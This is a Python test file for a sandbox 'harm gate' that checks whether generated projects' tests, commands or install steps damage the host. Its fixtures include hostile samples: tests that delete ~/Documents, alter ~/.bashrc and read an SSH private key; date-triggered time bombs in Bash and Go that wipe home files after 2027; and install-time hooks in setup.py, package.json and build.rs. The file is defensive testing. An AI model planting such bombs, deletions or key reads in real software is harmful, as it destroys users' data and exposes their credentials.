"""The gate on harm: trees that do it when they run, and honest ones that come close."""

from __future__ import annotations

from pathlib import Path

import pytest
from gate_material import need, repo
from harm_material import harm, harm_verdicts

from factory_assets.domain.specs import Language
from factory_assets.languages import LANGUAGES
from factory_assets.sandbox.clock import clock_ahead

_TEST = "tests/test_more.py"

_HARMS = """
import pathlib, shutil, socket
HOME = pathlib.Path.home()

def test_files():
    shutil.rmtree(HOME / "Documents")
    with (HOME / ".bashrc").open("a") as file:
        file.write("x")
    assert pathlib.Path("~/.ssh/id_ed25519").expanduser().read_bytes()

def test_network():
    from clamp.call import call
    call()
    for place in (("93.184.216.34", 443), ("example.com", 80), ("192.0.2.77", 80)):
        try:
            socket.create_connection(place, 5)
        except OSError:
            pass
"""
_TELEMETRY = """
import socket

def call():
    try:
        socket.getaddrinfo("telemetry.invalid", 80)
    except OSError:
        pass
"""
_COMES_CLOSE = """
import datetime, http.server, os, pathlib, pytest, socket, time

def test_a_file_of_its_own_in_the_home():
    (pathlib.Path.home() / ".clamp").write_text("1")

def test_a_server_of_its_own():
    http.server.HTTPServer(("", 0), http.server.BaseHTTPRequestHandler).server_close()

@pytest.mark.parametrize("nobody", ["nobody.invalid", "192.0.2.1", "2001:db8::1"])
def test_what_happens_when_nobody_answers(nobody):
    with pytest.raises(OSError):
        socket.create_connection((nobody, 80), 5)

def test_a_new_file_is_fresh(tmp_path):
    (tmp_path / "x").write_text("")
    assert time.time() - os.stat(tmp_path / "x").st_mtime < 3600

def test_a_date_that_has_passed():
    assert datetime.date.today() >= datetime.date(2026, 1, 1)
"""


def _python(body: str) -> dict[str, str | None]:
    indented = body.replace("\n", "\n    ")
    return {_TEST: f"def test_more(tmp_path):\n    {indented}\n"}


def test_what_tests_do_beyond_folders_of_their_own_and_loopback_is_refused_with_what_was_seen(
    tmp_path: Path,
) -> None:
    # 192.0.2.77 is nobody's and a test names it; telemetry.invalid is nobody's, but only the sources name it.
    verdict = harm(Language.PYTHON, {_TEST: _HARMS, "clamp/call.py": _TELEMETRY}, tmp_path)
    assert not verdict.passed
    assert set(verdict.saw.splitlines()) == {
        "`make test` removed ~/Documents/letter.txt",
        "`make test` changed ~/.bashrc",
        "`make test` opened ~/.ssh/id_ed25519",
        "`make test` looked up telemetry.invalid",
        "`make test` looked up example.com",
        "`make test` tried to reach 93.184.216.34:443",
    }


def test_honest_tests_that_come_close_pass(tmp_path: Path) -> None:
    verdict = harm(Language.PYTHON, {_TEST: _COMES_CLOSE}, tmp_path)
    assert verdict.passed, verdict.saw


def test_a_repo_about_keys_may_open_the_key(tmp_path: Path) -> None:
    body = "import pathlib\nassert pathlib.Path('~/.ssh/id_ed25519').expanduser().read_bytes()"
    project = repo(Language.PYTHON)["pyproject.toml"].text
    about = {"pyproject.toml": project.replace("[project]\n", '[project]\nkeywords = ["ssh"]\n')}
    assert harm(Language.PYTHON, {**_python(body), **about}, tmp_path).passed


def test_a_file_of_the_repo_that_a_command_removes_is_seen_unless_removing_is_its_business(
    tmp_path: Path,
) -> None:
    body = "import pathlib\npathlib.Path('SPEC.md').unlink()"
    verdict = harm(Language.PYTHON, _python(body), tmp_path / "removes")
    assert "`make test` removed SPEC.md" in verdict.saw
    project = repo(Language.PYTHON)["pyproject.toml"].text
    about = {"pyproject.toml": project.replace("[project]\n", '[project]\nkeywords = ["cleanup"]\n')}
    assert harm(Language.PYTHON, {**_python(body), **about}, tmp_path / "cleans").passed
    made = "import pathlib, shutil\nshutil.rmtree('dist', ignore_errors=True)"
    files = {**_python(made), "dist/word.txt": "made by a build\n"}
    assert harm(Language.PYTHON, files, tmp_path / "builds").passed


_LEAVES = """
use std::process::{Command, Stdio};
use std::time::{SystemTime, UNIX_EPOCH};

#[test]
fn works_until_2028() {
    let _ = Command::new("sleep").arg("900").stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    assert!(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() < 1_835_000_000);
}
"""
_ENDS = "import datetime\nassert datetime.date.today() < datetime.date(2028, 3, 1)"


@pytest.mark.skipif(clock_ahead(0) is None, reason="faketime is not installed")
def test_tests_that_pass_only_before_a_date_are_refused(tmp_path: Path) -> None:
    verdict = harm(Language.PYTHON, _python(_ENDS), tmp_path)
    assert "two years ahead, tests fail that pass today: tests/test_more.py::test_more" in verdict.saw


@pytest.mark.skipif(clock_ahead(0) is None, reason="faketime is not installed")
@pytest.mark.parametrize("language", [Language.PYTHON, Language.RUST])
def test_a_process_that_is_left_behind_hides_no_date(language: Language, tmp_path: Path) -> None:
    need(language)
    left = "import subprocess\nsubprocess.Popen(['sleep', '900'], stdout=-3, stderr=-3, close_fds=False)\n"
    changed = _python(left + _ENDS) if language is Language.PYTHON else {"tests/left.rs": _LEAVES}
    verdict = harm(language, changed, tmp_path)
    assert "two years ahead, tests fail that pass today" in verdict.saw


@pytest.mark.skipif(clock_ahead(0) is None, reason="faketime is not installed")
def test_a_sleep_hides_no_date(tmp_path: Path) -> None:
    # What a test starts has the repo's own search path as well.
    slept = (
        "import subprocess, sys, time\ntime.sleep(0.01)\n"
        "subprocess.run([sys.executable, '-c', 'import time; time.sleep(0.01)'], check=True, timeout=20)\n"
    )
    assert harm(Language.PYTHON, _python(slept), tmp_path / "honest").passed
    verdict = harm(Language.PYTHON, _python(slept + _ENDS), tmp_path / "bomb")
    assert "two years ahead, tests fail that pass today: tests/test_more.py::test_more" in verdict.saw


def test_without_faketime_the_later_run_is_left_out_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("factory_assets.languages.clocks.clock_ahead", lambda _: None)
    verdict = harm(Language.PYTHON, _python(_ENDS), tmp_path / "scratch")
    assert verdict.passed
    assert "not tried: tests and commands two years ahead: faketime is not installed" in verdict.saw


@pytest.mark.skipif(clock_ahead(0) is None, reason="faketime is not installed")
@pytest.mark.parametrize("clock", ["$(date +%Y)", "$(printf '%(%Y)T')"])
def test_a_bomb_in_a_command_goes_off_in_the_planted_home(tmp_path: Path, clock: str) -> None:
    need(Language.BASH)
    entry = next(path for path in repo(Language.BASH) if path.startswith("bin/"))
    script = f'#!/usr/bin/env bash\nif (({clock} > 2027)); then rm -rf "$HOME"/*; fi\necho "usage: clamp"\n'
    usage = f"# clamp\n\n## Usage\n\n```sh\n{entry} 5\n```\n"
    changed = repo(Language.BASH, {entry: script, "README.md": usage})
    verdicts = list(harm_verdicts(Language.BASH, changed, tmp_path))
    assert not verdicts[-1].passed
    assert (
        f"`{entry} --help` removed ~/notes.md" in verdicts[-1].saw or "removed ~/notes.md" in verdicts[-1].saw
    )


@pytest.mark.corpus
def test_a_bomb_in_go_goes_off_as_well(tmp_path: Path) -> None:
    need(Language.GO)
    bomb = (
        'package main\n\nimport (\n\t"os"\n\t"time"\n)\n\nfunc init() {\n\tif time.Now().Year() > 2027 {\n'
        '\t\tos.RemoveAll(os.Getenv("HOME") + "/Documents")\n\t}\n}\n'
    )
    verdict = harm(Language.GO, {"bomb.go": bomb}, tmp_path)
    assert "removed ~/Documents/letter.txt" in verdict.saw


@pytest.mark.parametrize(
    ("language", "files", "says"),
    [
        (
            Language.PYTHON,
            {"setup.py": "import os\nfrom setuptools import setup\nos.system('id')\nsetup()\n"},
            "setup.py",
        ),
        (
            Language.PYTHON,
            {"setup.py": "from setuptools import setup\nsetup(version=open('x').read())\n"},
            "setup.py",
        ),
        (Language.PYTHON, {"setup.py": "def (\n"}, "setup.py"),
        (
            Language.PYTHON,
            {"pyproject.toml": '[build-system]\nrequires = []\nbackend-path = ["."]\n'},
            "backend-path",
        ),
        (Language.PYTHON, {"pyproject.toml": "[tool.setuptools.cmdclass]\nbuild = 'x.B'\n"}, "cmdclass"),
        (Language.PYTHON, {"setup.cfg": "[options]\ncmdclass = x\n"}, "cmdclass"),
        (Language.TYPESCRIPT, {"package.json": '{"scripts": {"postinstall": "node x.js"}}'}, "postinstall"),
        (Language.TYPESCRIPT, {"package.json": '{"scripts": {"prepare": "tsc && node x.js"}}'}, "prepare"),
        (
            Language.TYPESCRIPT,
            {"package.json": '{"scripts": {"prepare": "npm run b", "b": "tsc", "postb": "node x"}}'},
            "prepare",
        ),
        (Language.RUST, {"Cargo.toml": "[package]\n", "build.rs": "fn main() { evil(); }\n"}, "build.rs"),
        (Language.RUST, {"Cargo.toml": '[package]\nbuild = "b.rs"\n', "b.rs": "fn main() {}\n"}, "b.rs"),
        (
            Language.RUST,
            {"a/Cargo.toml": "[package]\n", "a/build.rs": "fn main() { evil(); }\n"},
            "a/build.rs",
        ),
        (
            Language.PYTHON,
            {
                "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "clamp.about.VERSION"}\n',
                "clamp/about.py": "import os\n\nVERSION = os.environ.get('RELEASE', '1')\n",
            },
            "clamp.about.VERSION",
        ),
        (
            Language.PYTHON,
            {"pyproject.toml": '[tool.hatch.version]\nsource = "code"\npath = "v.py"\n'},
            "tool.hatch.version",
        ),
        (
            Language.TYPESCRIPT,
            {
                "package.json": '{"workspaces": ["packages/*"]}',
                "packages/a/package.json": '{"scripts": {"install": "node x.js"}}',
            },
            "packages/a/package.json",
        ),
        (
            Language.TYPESCRIPT,
            {
                "package.json": '{"dependencies": {"a": "file:lib/a"}}',
                "lib/a/package.json": '{"scripts": {"preinstall": "node x.js"}}',
            },
            "lib/a/package.json",
        ),
    ],
)
def test_code_that_runs_at_install_time_is_refused_by_its_place(
    language: Language, files: dict[str, str | None], says: str
) -> None:
    (fault,) = LANGUAGES[language].install_code(repo(language, files))
    assert says in fault


@pytest.mark.parametrize(
    ("language", "files"),
    [
        (Language.PYTHON, {"setup.py": '"""For old pips."""\nfrom setuptools import setup\n\nsetup()\n'}),
        (
            Language.PYTHON,
            {
                "setup.py": "import setuptools\nsetuptools.setup(name='x', packages=setuptools.find_packages('src'))\n"
            },
        ),
        (
            Language.PYTHON,
            {
                "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "clamp.__version__"}\n',
                "clamp/__init__.py": "from clamp.limit import limit\nfrom .about import VERSION as __version__\n",
                "clamp/about.py": "import os\n\nVERSION: str = '1'\n",
            },
        ),
        (
            Language.PYTHON,
            {
                "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "limits.VERSION"}\n',
                "src/limits/__init__.py": "VERSION = (1, 2)\n",
            },
        ),
        (Language.PYTHON, {"pyproject.toml": '[tool.setuptools.dynamic]\nversion = {file = "VERSION"}\n'}),
        (
            Language.TYPESCRIPT,
            {"package.json": '{"scripts": {"prepare": "npm run build", "build": "tsc -p ."}}'},
        ),
        (
            Language.TYPESCRIPT,
            {"package.json": '{"scripts": {"pretest": "npm run build", "prepack": "tsc"}}'},
        ),
        (Language.TYPESCRIPT, {"package.json": '{"scripts": "none"}'}),
        (Language.TYPESCRIPT, {"tests/fixtures/package.json": '{"scripts": {"install": "node x.js"}}'}),
        (Language.TYPESCRIPT, {"site/package.json": '{"scripts": {"prepare": "husky"}}'}),
        (
            Language.RUST,
            {"Cargo.toml": "[package]\n", "build.rs": 'fn main() { println!("cargo:rustc-env=A=1"); }'},
        ),
        (Language.RUST, {"Cargo.toml": "[package]\nbuild = false\n", "build.rs": "fn main() {}"}),
        (Language.GO, {}),
        (Language.BASH, {}),
    ],
)
def test_what_only_declares_is_no_code_at_install_time(
    language: Language, files: dict[str, str | None]
) -> None:
    assert list(LANGUAGES[language].install_code(repo(language, files))) == []
